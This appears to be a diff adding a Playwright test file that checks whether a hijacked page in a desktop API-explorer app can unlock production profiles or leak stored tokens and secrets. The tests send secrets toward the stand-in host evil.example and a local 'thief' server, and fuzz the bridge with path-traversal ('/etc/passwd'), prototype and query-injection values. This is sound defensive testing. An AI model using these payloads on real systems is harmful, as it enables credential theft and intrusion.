@@ -1,0 +1,360 @@
+import type { Page } from '@playwright/test';
+import fc from 'fast-check';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { VaultForwardDraft } from '../src/shared/vault-forward/draft';
+import { answerQuestion, expectNoQuestion, question, questionPages } from './pages/question-page';
+import { forwardRequest } from './support/forward-request';
+import { useProfile } from './stand-alone-sandbox';
+import { expect, test } from './test';
+
+/** A service that counts what it is asked to do, and with which tokens and secrets. */
+async function startService() {
+  const seen: { readonly method: string; readonly headers: string }[] = [];
+  const server = createServer((request, response) => {
+    seen.push({ method: request.method ?? '', headers: JSON.stringify(request.rawHeaders) });
+    request
+      .resume()
+      .on('end', () => response.writeHead(200, { 'content-type': 'application/json' }).end('{}'));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    seen,
+    posts: () => seen.filter(({ method }) => method === 'POST').length,
+    close: () => {
+      server.closeAllConnections();
+      server.close();
+    },
+  };
+}
+
+const draftTo = (destinationUrl: string, headers: VaultForwardDraft['headers'] = []): VaultForwardDraft => ({
+  version: 1,
+  destinationUrl,
+  method: 'POST',
+  paymentMethods: [],
+  authentications: [],
+  headers,
+  serviceHeaders: [],
+  body: '{}',
+});
+
+/** Calls one request of the bridge with whatever it is given: what became of it, or null when it waits for the person. */
+function call(page: Page, name: string, argument: unknown): Promise<string | null> {
+  return page.evaluate(
+    async ([method, sent]) => {
+      const request: unknown = Reflect.get(window.explorer, method);
+      if (typeof request !== 'function') return 'no such request';
+      const asked = Promise.resolve(Reflect.apply(request, window.explorer, [sent]) as unknown);
+      const told = asked.then(
+        (answer) => JSON.stringify(answer),
+        (error: unknown) => String(error),
+      );
+      return Promise.race([
+        told,
+        new Promise<null>((resolve) => {
+          setTimeout(() => resolve(null), 1_500);
+        }),
+      ]);
+    },
+    [name, argument] as const,
+  );
+}
+
+/** The active profile, as anybody with the bridge can read it. */
+async function activeProfile(page: Page) {
+  const state = await page.evaluate(() => window.explorer.describeProfiles());
+  const active = state.ok ? state.value.profiles.find(({ id }) => id === state.value.activeId) : undefined;
+  if (!active) throw new Error('there is no active profile');
+  return active;
+}
+
+test('a page that is taken over can neither unlock production, nor charge on it, nor answer a question', async ({
+  started: { app },
+  page,
+}) => {
+  const service = await startService();
+  await useProfile(page, {
+    name: 'Live EU',
+    baseUrl: service.url,
+    token: 'CANARY-live',
+    environment: 'production',
+  });
+  const { id: profileId, ...locked } = await activeProfile(page);
+  const send = (amount = 0) =>
+    call(page, 'sendRequest', {
+      request: { ...forwardRequest(draftTo('https://psp.example/charge')), body: JSON.stringify({ amount }) },
+      callId: crypto.randomUUID(),
+      composedUnder: null,
+      draftId: null,
+      confirmed: true,
+      confirmation: { ticket: crypto.randomUUID(), decision: 'send', doNotAskForTenMinutes: true },
+    });
+  expect(await send()).toContain('profile-read-only');
+
+  // Every way to take its lock away leads to a question, in a window that the page reaches in no way.
+  for (const weaker of [
+    { readOnly: false },
+    { environment: 'sandbox', readOnly: false },
+    { environment: 'sandbox' },
+    { name: 'Harmless', readOnly: false },
+  ]) {
+    const edit = { profileId, draft: { ...locked, ...weaker } };
+    expect(await call(page, 'editProfile', edit), JSON.stringify(weaker)).toBeNull();
+    await expect.poll(() => questionPages(app).length).toBe(1);
+    const tried = await page.evaluate(async () => {
+      const failed = (doing: () => unknown) =>
+        Promise.resolve()
+          .then(doing)
+          .then((value) => value === null)
+          .catch(() => true);
+      for (const key of ['Enter', ' ', 'Tab', 'Enter'])
+        window.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
+      window.postMessage({ confirmed: true, checked: true }, '*');
+      new BroadcastChannel('question:answer').postMessage({ confirmed: true, checked: true });
+      return [
+        await failed(() => fetch('app-question://question/question/index.html')),
+        await failed(() => window.open('app-question://question/question/index.html')),
+        await failed(() =>
+          fetch('/question/index.html').then(({ status }) => (status === 404 ? null : status)),
+        ),
+        'question' in window,
+        Object.keys(window.explorer).filter((name) => /question|answer/i.test(name)).length,
+      ];
+    });
+    expect(tried).toEqual([true, true, true, false, 0]);
+    expect(questionPages(app)).toHaveLength(1);
+    await questionPages(app)[0]?.close();
+    await expectNoQuestion(app);
+    expect(await activeProfile(page)).toEqual({ id: profileId, ...locked });
+  }
+  // Nor does a copy, a deletion that is undone, or a way around by another environment.
+  const copy = await call(page, 'duplicateProfile', { profileId });
+  expect(copy).toContain('"name":"Live EU (2)"');
+  await call(page, 'deleteProfile', { profileId });
+  await call(page, 'undoDeleteProfile', { profileId });
+  await call(page, 'activateProfile', { profileId });
+  const state = await page.evaluate(() => window.explorer.describeProfiles());
+  const live = state.ok ? state.value.profiles.filter(({ name }) => name.startsWith('Live EU')) : [];
+  expect(live.map(({ readOnly, environment }) => [readOnly, environment])).toEqual([
+    [true, 'production'],
+    [true, 'production'],
+  ]);
+  expect(await send()).toContain('profile-read-only');
+
+  // Unlocked by the person, each send is still theirs to agree to; many questions at once are refused.
+  const unlocking = call(page, 'editProfile', { profileId, draft: { ...locked, readOnly: false } });
+  await answerQuestion(app, 'Unlock Live EU?', 'Unlock it');
+  await unlocking;
+  const same = await Promise.all([send(), send(), send()]);
+  expect(same.filter((answer) => answer?.includes('already-under-way'))).toHaveLength(2);
+  const many = await Promise.all(Array.from({ length: 8 }, (_, index) => send(index + 1)));
+  expect(many.filter((answer) => answer?.includes('too-many-questions')).length).toBeGreaterThan(0);
+  expect(many.some((answer) => answer?.includes('"sent"'))).toBe(false);
+  await call(page, 'activateProfile', { profileId: 'local-sandbox' });
+  await expectNoQuestion(app);
+  expect(service.posts()).toBe(0);
+  service.close();
+});
+
+test('a page that is taken over gets no token to an address, a proxy or a file of its own', async ({
+  started: { app },
+  page,
+}) => {
+  const [service, thief] = [await startService(), await startService()];
+  await useProfile(page, { name: 'Sandbox EU', baseUrl: service.url, token: 'CANARY-token' });
+  const { id: profileId, ...saved } = await activeProfile(page);
+  const lookUp = () =>
+    call(page, 'lookUpSession', {
+      sessionId: '5e550000-0000-4000-8000-000000000001',
+      callId: crypto.randomUUID(),
+    });
+  await lookUp();
+  expect(JSON.stringify(service.seen)).toContain('CANARY-token');
+  const ways = [
+    { ...saved, baseUrl: thief.url },
+    { ...saved, baseUrl: `${thief.url}/v1`, name: 'Another name' },
+    { ...saved, proxy: { kind: 'manual', url: thief.url } },
+    { ...saved, environment: 'production', baseUrl: thief.url, readOnly: true },
+  ];
+  for (const draft of ways) {
+    // By a mere test, by an edit, by a copy, and by moving what was stored: only the person could say yes to that.
+    await call(page, 'testConnection', { profileId, draft, secret: null, callId: crypto.randomUUID() });
+    await call(page, 'editProfile', { profileId, draft });
+    expect(await lookUp(), JSON.stringify(draft)).toContain('credential-detached');
+    await call(page, 'listBuyers', {
+      query: { limit: null, cursor: null, parameters: [] },
+      callId: crypto.randomUUID(),
+    });
+    expect(await call(page, 'confirmCredential', { profileId })).toBeNull();
+    await expect.poll(() => questionPages(app).length).toBe(1);
+    await questionPages(app)[0]?.close();
+    await expectNoQuestion(app);
+    await call(page, 'deleteProfile', { profileId });
+    await call(page, 'undoDeleteProfile', { profileId });
+    await call(page, 'activateProfile', { profileId });
+    await lookUp();
+    // As it was: the environment of production stays locked, and is left where it is.
+    await call(page, 'editProfile', { profileId, draft: { ...saved, environment: draft.environment } });
+  }
+  // A header of its own does not go in the token's place, nor the token along with one.
+  expect(JSON.stringify(thief.seen)).not.toContain('CANARY');
+  expect(await call(page, 'describeCredential', { profileId })).not.toContain('CANARY');
+  service.close();
+  thief.close();
+});
+
+test('a page that is taken over sends no stored secret to a host that it was not agreed to go to', async ({
+  started: { app },
+  page,
+}) => {
+  const service = await startService();
+  await useProfile(page, { name: 'Sandbox EU', baseUrl: service.url, token: 'CANARY-token' });
+  const header = {
+    id: 'h',
+    name: 'authorization',
+    value: 'Bearer CANARY-of-the-psp',
+    secret: true,
+    enabled: true,
+  };
+  const sent = (draft: VaultForwardDraft) =>
+    call(page, 'sendRequest', {
+      request: forwardRequest(draft),
+      callId: crypto.randomUUID(),
+      composedUnder: null,
+      draftId: null,
+    });
+  // The person uses it once, for its own host, and saves the request.
+  const first = page.evaluate(
+    (request) =>
+      window.explorer.sendRequest({
+        request,
+        callId: crypto.randomUUID(),
+        composedUnder: null,
+        draftId: null,
+      }),
+    forwardRequest(draftTo('https://psp.example/charge', [header])),
+  );
+  await answerQuestion(app, 'Send a secret to a new host?', 'Send it there');
+  expect(await first).toMatchObject({ ok: true, value: { kind: 'sent' } });
+  const profile = await activeProfile(page);
+  const saved = await page.evaluate(
+    ([request, profileId]) =>
+      window.explorer.saveRequest({
+        request: {
+          id: null,
+          folder: '',
+          name: 'Charge',
+          profileId,
+          request,
+          form: null,
+          description: '',
+          expectations: [],
+        },
+        withoutSecrets: false,
+      }),
+    [forwardRequest(draftTo('https://psp.example/charge', [header])), profile.id] as const,
+  );
+  if (!saved.ok) throw new Error(JSON.stringify(saved));
+  const stored = saved.value.request.request.headers.find(({ secret }) => secret);
+  if (!stored) throw new Error('the header is gone');
+  const kept = { ...header, value: stored.value };
+  expect(kept.value).toMatch(/^kept-secret:/);
+  expect(service.posts()).toBe(1);
+
+  // Elsewhere, whatever the header is called and whether or not the page still calls it a secret.
+  for (const changed of [
+    kept,
+    { ...kept, secret: false },
+    { ...kept, name: 'x-note', secret: false },
+    { ...kept, name: 'x-service-note', value: ` ${kept.value}`.trim() },
+  ]) {
+    expect(await sent(draftTo('https://evil.example/', [changed])), changed.name).toContain('secret-host');
+  }
+  // Another host for it is the person's to allow.
+  const lists = await page.evaluate(() => window.explorer.describeSecretHosts());
+  const [list] = lists.ok ? lists.value : [];
+  expect(await call(page, 'allowSecretHost', { id: list?.id, host: 'evil.example' })).toBeNull();
+  await question(app, 'Let a secret go to another host?');
+  await questionPages(app)[0]?.close();
+  await expectNoQuestion(app);
+  // Through a service of its own, which reads what it forwards: asked about.
+  const { id: profileId, ...rest } = profile;
+  const moved = { ...rest, baseUrl: 'https://evil.example', proxy: { kind: 'none' } };
+  const created = await call(page, 'createProfile', { draft: { ...moved, name: 'Evil' } });
+  const evilId: unknown = JSON.parse(created ?? '{}').value?.profileId;
+  await call(page, 'saveToken', { profileId: evilId, token: 'its-own', home: 'this-run-only' });
+  await call(page, 'activateProfile', { profileId: evilId });
+  expect(await sent(draftTo('https://psp.example/charge', [kept]))).toBeNull();
+  const asked = await question(app, 'Send a secret to a new host?');
+  await expect(asked).toContainText('The service evil.example gets the secret');
+  await questionPages(app)[0]?.close();
+  await expectNoQuestion(app);
+  // Forgetting its hosts makes it new again, which is asked about as well.
+  await call(page, 'activateProfile', { profileId });
+  await call(page, 'forgetSecretHost', { id: list?.id, host: 'psp.example' });
+  expect(await sent(draftTo('https://evil.example/', [kept]))).toBeNull();
+  await question(app, 'Send a secret to a new host?');
+  await questionPages(app)[0]?.close();
+  await expectNoQuestion(app);
+  expect(service.posts()).toBe(1);
+  expect(service.seen.filter(({ headers }) => headers.includes('CANARY-of-the-psp'))).toHaveLength(1);
+  service.close();
+});
+
+test('no request of the bridge gives a secret away or weakens anything, whatever it is called with', async ({
+  started: { app },
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const service = await startService();
+  await useProfile(page, {
+    name: 'Live EU',
+    baseUrl: service.url,
+    token: 'CANARY-live',
+    environment: 'production',
+  });
+  const { id: profileId, ...locked } = await activeProfile(page);
+  await app.evaluate(({ dialog }) => {
+    dialog.showMessageBox = () => Promise.resolve({ response: 0, checkboxChecked: false });
+    dialog.showOpenDialog = () => Promise.resolve({ canceled: true, filePaths: [] });
+    dialog.showSaveDialog = () => Promise.resolve({ canceled: true, filePath: '' });
+  });
+  // What would take the profile or its token away is nothing that a page gains by: it would only end the test.
+  const skipped = new Set(['forgetAllSecrets', 'openFolder']);
+  const junk = fc.oneof(
+    fc.jsonValue(),
+    fc.constantFrom<unknown>(
+      null,
+      { profileId: '__proto__' },
+      { profileId: '../../etc/passwd', id: '../..', path: '/etc/passwd' },
+      { profileId, place: -1, draft: { ...locked, readOnly: 'no' } },
+      { profileId: [profileId], confirmed: true, checked: true },
+      { id: profileId, callId: profileId, query: {}, ids: ['*'], host: '*' },
+      { profileId: { $ne: null }, token: { toString: 'x' }, home: 'nowhere' },
+    ),
+  );
+  const names = await page.evaluate(() => Object.keys(window.explorer).filter((name) => name !== 'on'));
+  expect(names.length).toBeGreaterThan(70);
+  const answers: string[] = [];
+  for (const name of names.filter((one) => !skipped.has(one))) {
+    const samples = [undefined, ...fc.sample(junk, { numRuns: 6, seed: 20_261_122 })];
+    const told = await Promise.all(samples.map((argument) => call(page, name, argument)));
+    expect(
+      told.some((answer) => answer?.includes('"sent"') === true),
+      name,
+    ).toBe(false);
+    answers.push(...told.map((answer) => answer ?? ''));
+  }
+  expect(answers.length).toBeGreaterThan((names.length - skipped.size) * 6);
+  expect(answers.filter((answer) => answer.includes('CANARY'))).toEqual([]);
+  expect(answers.filter((answer) => answer.includes('"code":"defect"'))).toEqual([]);
+  for (const open of questionPages(app)) await open.close();
+  await expectNoQuestion(app);
+  const state = await page.evaluate(() => window.explorer.describeProfiles());
+  const live = state.ok ? state.value.profiles.find(({ id }) => id === profileId) : undefined;
+  expect(live).toEqual({ id: profileId, ...locked });
+  expect(service.posts()).toBe(0);
+  service.close();
+});
